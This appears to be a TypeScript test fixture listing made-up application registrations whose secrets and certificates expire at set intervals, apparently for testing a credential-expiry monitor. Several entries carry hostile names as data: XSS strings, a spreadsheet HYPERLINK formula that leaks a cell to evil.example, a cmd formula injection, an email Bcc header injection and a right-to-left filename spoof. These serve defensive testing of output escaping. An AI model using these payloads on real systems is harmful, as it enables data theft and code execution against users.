import { application, type ApplicationSpec, certificate, secret } from './application-spec.ts';

/**
 * The applications with which a renewal goes well: one secret, one enabled owner with a mailbox. Days are counted from
 * the start of the epoch's day, so each end is chosen to stay in its stage until that day is over.
 */
export const WITHIN_A_WEEK: readonly ApplicationSpec[] = [
  application('payroll-sync', {
    environment: 'LIVE',
    owners: ['olivier.martin'],
    credentials: [secret('payroll 2025', -362.7, 2.3)],
    traps: ['app-id-is-not-object-id'],
    serviceManagementReference: 'CI0010031',
  }),
  application('SAP Concur expense connector', {
    environment: 'LIVE',
    owners: ['david.cohen'],
    credentials: [secret('concur', -361.9, 3.1)],
  }),
  application('crm-lead-import', {
    environment: 'NLE',
    owners: ['pieter.devries'],
    credentials: [secret('ci secret', -176.1, 3.9)],
  }),
  application('Warehouse label printing', {
    environment: 'LIVE',
    owners: ['tariq.hussain'],
    credentials: [secret('label-svc', -725.4, 4.6)],
  }),
  application('Azure DevOps – platform deploy', {
    owners: ['jonas.becker'],
    credentials: [secret('pipeline', -359.5, 5.5)],
  }),
  application('hr-onboarding-bot', {
    owners: ['bjorn.hansen'],
    credentials: [secret(null, -358.4, 6.6)],
  }),
];

/** The same, with 8 to 30 days left. */
export const WITHIN_A_MONTH: readonly ApplicationSpec[] = [
  application('invoice-ocr', {
    environment: 'LIVE',
    owners: ['priya.natarajan'],
    credentials: [secret('ocr client', -355.7, 9.3)],
  }),
  application('Power BI dataset refresh – Sales', {
    owners: ['arjun.mehta'],
    credentials: [secret('refresh', -718.6, 11.4)],
  }),
  application('Contracts <img src=x onerror="alert(document.domain)"> & archive', {
    owners: ['grace.mwangi'],
    credentials: [secret('"><script>alert(1)</script>', -351.8, 13.2)],
    traps: ['hostile-name'],
  }),
  application('edi-gateway', {
    environment: 'NLE',
    owners: ['miguel.santos'],
    credentials: [secret('AS2 bridge', -348.3, 16.7)],
  }),
  application('telemetry-ingest', {
    owners: ['yuki.tanaka'],
    credentials: [secret('ingest', -160.5, 19.5)],
  }),
  application('ServiceNow CMDB sync', {
    environment: 'LIVE',
    owners: ['fatima.zahra'],
    credentials: [secret('snow oauth', -342.9, 22.1)],
    serviceManagementReference: 'CI0010452',
  }),
  application('device-compliance-export', {
    owners: ['chidi.eze'],
    credentials: [secret('export', -339.2, 25.8)],
  }),
  application('loyalty-points-api', {
    environment: 'NLE',
    owners: ['ivan.petrov'],
    credentials: [secret('api', -336.1, 28.9)],
  }),
];

/** 30 to 60 days left: the first notice. Half of them have names that nobody should trust. */
export const WITHIN_TWO_MONTHS: readonly ApplicationSpec[] = [
  application('gl-journal-export', { owners: ['david.cohen'], credentials: [secret('erp', -332.6, 32.4)] }),
  application('fleet-tracking', {
    environment: 'LIVE',
    owners: ['anna.schmidt'],
    credentials: [secret('tracker', -328.1, 36.9)],
  }),
  application('meeting-room-panels', {
    owners: ['noor.bakker'],
    credentials: [secret('panels', -690, 40.3)],
  }),
  application('churn-model-scoring', { owners: ['hanna.nowak'], credentials: [secret('mlops', -321, 44.5)] }),
  application('Expiry Monitor (reader)', {
    owners: ['adaeze.okafor', 'wei.zhang'],
    credentials: [secret('monitor', -133.5, 46.5)],
    traps: ['self-watch', 'two-owners'],
    graphRoles: ['Application.Read.All', 'User.Read.All'],
    trustsIdentities: true,
  }),
  application('=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")', {
    owners: ['mohamed.ali'],
    credentials: [secret("+cmd|' /C calc'!A0", -316, 48.2)],
    traps: ['hostile-name'],
  }),
  application('billing-sync\r\nBcc: everyone@evil.example\r\n\r\nHello', {
    owners: ['priya.natarajan'],
    credentials: [secret('line\nbreak', -313, 50.7)],
    traps: ['hostile-name'],
  }),
  application('invoice\u202Egpj.exe \u2066viewer\u2069', {
    owners: ['carla.mendes'],
    credentials: [secret('rtl', -310, 53.1)],
    traps: ['hostile-name'],
  }),
  application('🔥 Prod API 🔑 do not touch 👩🏽‍💻', {
    owners: ['sean.obrien'],
    credentials: [secret('🔑', -307, 55.6)],
    traps: ['hostile-name'],
  }),
  application('Group-wide integration layer '.repeat(9).slice(0, 250), {
    owners: ['kim.jiwoo'],
    credentials: [secret('long', -304, 58.8)],
    traps: ['hostile-name'],
  }),
];

/** Certificates in every stage. */
export const CERTIFICATES: readonly ApplicationSpec[] = [
  application('b2b-partner-portal', {
    owners: ['nadia.haddad'],
    credentials: [certificate('CN=b2b-partner-portal', -360, 5.2)],
  }),
  application('datalake-writer', {
    owners: ['sofia.rossi'],
    credentials: [certificate('CN=datalake-writer', -353, 12.4)],
  }),
  application('intune-ndes-connector', {
    owners: ['chidi.eze'],
    credentials: [certificate('CN=ndes.northwind.example', -700, 33)],
  }),
  application('exchange-automation', {
    owners: ['noor.bakker'],
    credentials: [certificate('CN=exo-automation', -324, 41), secret('fallback', -324, 200)],
  }),
  application('sharepoint-archiver', {
    owners: ['noor.bakker'],
    credentials: [certificate('CN=sp-archiver', -310, 57)],
  }),
  application('siem-forwarder', {
    owners: ['liam.murphy'],
    credentials: [certificate('CN=siem', -100, 265), certificate('CN=siem', -470, -105)],
    traps: ['replaced'],
  }),
  application('vault-backup (east)', {
    owners: ['yuki.tanaka'],
    credentials: [certificate('CN=vault-backup', -200, 165, { sharedCertificate: 'vault-backup' })],
    traps: ['same-certificate-on-two-applications'],
  }),
  application('vault-backup (west)', {
    owners: ['yuki.tanaka'],
    credentials: [certificate('CN=vault-backup', -200, 165, { sharedCertificate: 'vault-backup' })],
    traps: ['same-certificate-on-two-applications'],
  }),
  application('claims-portal', {
    owners: ['grace.mwangi'],
    credentials: [
      { kind: 'token-encryption', name: 'CN=claims-portal-encryption', starts: -340, ends: 24, exact: true },
    ],
    traps: ['token-encryption'],
  }),
  application('legacy-mainframe-bridge', {
    owners: ['lucia.fernandez'],
    credentials: [{ kind: 'symmetric', name: 'swt key', starts: -900, ends: 195, exact: true }],
    traps: ['symmetric-key'],
  }),
];
